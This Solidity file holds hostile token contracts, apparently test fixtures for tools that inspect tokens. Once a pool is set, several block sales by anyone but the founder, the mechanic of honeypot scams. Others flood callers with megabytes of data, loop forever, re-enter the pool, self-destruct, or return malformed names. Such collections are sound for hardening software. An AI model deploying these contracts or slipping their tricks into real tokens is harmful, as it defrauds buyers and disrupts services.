// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Tokens that attack who looks at them. Each is a good one until it knows its pool, so that it can get one first.

contract Base {
    uint256 public totalSupply = 1_000_000 ether;
    address public pair;
    address internal immutable founder = msg.sender;
    bool internal armed;
    mapping(address => uint256) internal balances;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() { balances[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }

    function name() external view virtual returns (string memory) { return "Hostile"; }
    function symbol() external view virtual returns (string memory) { return "HSTL"; }
    function decimals() external view virtual returns (uint8) { return 18; }
    function owner() external view virtual returns (address) { return address(0); }
    function setPair(address pair_) external { require(msg.sender == founder && pair == address(0)); pair = pair_; armed = true; }
    function balanceOf(address account) external view virtual returns (uint256) { return balances[account]; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; return true; }
    function transfer(address to, uint256 value) external virtual returns (bool) { move(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }
    function move(address from, address to, uint256 value) internal virtual {
        balances[from] -= value;
        balances[to] += value;
        emit Transfer(from, to, value);
    }
    function selling(address from, address to) internal view returns (bool) { return armed && to == pair && from != founder; }
    function many(uint256 size) internal pure { assembly { return(0, size) } }
    function loudly(uint256 size) internal pure { assembly { revert(0, size) } }
}

contract Good is Base {}

contract BurnsAllGas is Base {
    function move(address from, address to, uint256 value) internal override { while (selling(from, to)) {} super.move(from, to, value); }
}

contract InvalidOnSale is Base {
    function move(address from, address to, uint256 value) internal override { if (selling(from, to)) assembly { invalid() } super.move(from, to, value); }
}

/// Every transfer answers 2 MB.
contract Floods is Base {
    function transfer(address to, uint256 value) external override returns (bool) { move(msg.sender, to, value); if (armed) many(2_000_000); return true; }
    function balanceOf(address account) external view override returns (uint256) { if (armed && account != pair) many(2_000_000); return balances[account]; }
}

contract LoudRevert is Base {
    function move(address from, address to, uint256 value) internal override { if (selling(from, to)) loudly(1_000_000); super.move(from, to, value); }
}

interface Pool { function sync() external; }

/// Calls the pool back while it trades.
contract Reenters is Base {
    function move(address from, address to, uint256 value) internal override {
        if (armed && from != founder && (to == pair || from == pair)) Pool(pair).sync();
        super.move(from, to, value);
    }
}

/// Calls itself back until the stack or the gas ends.
contract Recursive is Base {
    function move(address from, address to, uint256 value) internal override {
        if (selling(from, to)) this.transferFrom(from, to, value);
        super.move(from, to, value);
    }
}

contract SelfDestructs is Base {
    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        if (selling(from, to)) selfdestruct(payable(founder));
    }
}

contract LongName is Base {
    function name() external pure override returns (string memory) { return string(new bytes(1_000_000)); }
    function symbol() external pure override returns (string memory) {
        bytes memory text = new bytes(300_000);
        for (uint256 i; i < text.length; i += 32) assembly { mstore(add(add(text, 32), i), not(0)) }
        return string(text);
    }
}

/// Says that its name is longer than the chain.
contract LyingName is Base {
    function name() external pure override returns (string memory) { assembly { mstore(0, 32) mstore(32, not(0)) return(0, 64) } }
}

contract LoudName is Base {
    function name() external pure override returns (string memory) { loudly(1_000_000); return ""; }
    function symbol() external pure override returns (string memory) { loudly(1_000_000); return ""; }
}

contract EndlessName is Base {
    function name() external view override returns (string memory) { while (true) { gasleft(); } return ""; }
    function owner() external view override returns (address) { while (true) { gasleft(); } return address(0); }
}

contract EndlessBalance is Base {
    function balanceOf(address account) external view override returns (uint256) { while (armed && account != pair) { gasleft(); } return balances[account]; }
}

/// Has no end at all.
contract Endless {
    fallback() external payable { while (true) { gasleft(); } }
}
